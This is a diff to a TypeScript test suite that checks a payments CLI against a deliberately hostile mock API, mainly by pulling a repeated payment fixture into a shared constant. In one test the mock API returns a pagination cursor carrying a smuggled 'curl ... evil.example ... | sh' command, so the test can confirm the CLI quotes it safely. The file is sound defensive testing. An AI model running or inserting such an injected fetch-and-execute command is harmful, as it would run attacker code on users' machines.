@@ -45,6 +45,16 @@ async function hostileApi(answer: (response: ServerResponse) => void) {
   };
 }
 
+/** A page's one payment, as the API lists them. */
+const PAYMENT = {
+  paid_at: '2026-11-29T00:00:00Z',
+  url: '/a',
+  price_usd: '0.001',
+  payer: '0x1',
+  network: 'local',
+  tx_hash: null,
+};
+
 /** No character a terminal acts on: ESC, BEL, C1 (U+009B) or a bidi override. */
 // eslint-disable-next-line no-control-regex -- the control characters are what it finds
 const ACTED_ON = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
@@ -106,18 +116,10 @@ describe('the CLI against an API that is not ours', () => {
   });
 
   it('prints a next-page command a shell runs as shown, whatever cursor the API sends', async () => {
-    const payment = {
-      paid_at: '2026-11-29T00:00:00Z',
-      url: '/a',
-      price_usd: '0.001',
-      payer: '0x1',
-      network: 'local',
-      tx_hash: null,
-    };
     const api = await hostileApi((response) =>
       response
         .writeHead(200, { 'content-type': 'application/json' })
-        .end(JSON.stringify({ items: [payment], next_cursor: "c1; curl -s https://evil.example/x | sh #'" })),
+        .end(JSON.stringify({ items: [PAYMENT], next_cursor: "c1; curl -s https://evil.example/x | sh #'" })),
     );
     try {
       const { code, stdout } = await run(['payments', '11111111-1111-4111-8111-111111111111', '--api', api.url]);
@@ -129,18 +131,10 @@ describe('the CLI against an API that is not ours', () => {
   });
 
   it('stops listing every page when the API sends a cursor it sent before', async () => {
-    const payment = {
-      paid_at: '2026-11-29T00:00:00Z',
-      url: '/a',
-      price_usd: '0.001',
-      payer: '0x1',
-      network: 'local',
-      tx_hash: null,
-    };
     const api = await hostileApi((response) =>
       response
         .writeHead(200, { 'content-type': 'application/json' })
-        .end(JSON.stringify({ items: [payment], next_cursor: 'same' })),
+        .end(JSON.stringify({ items: [PAYMENT], next_cursor: 'same' })),
     );
     try {
       const { code, stderr } = await run([
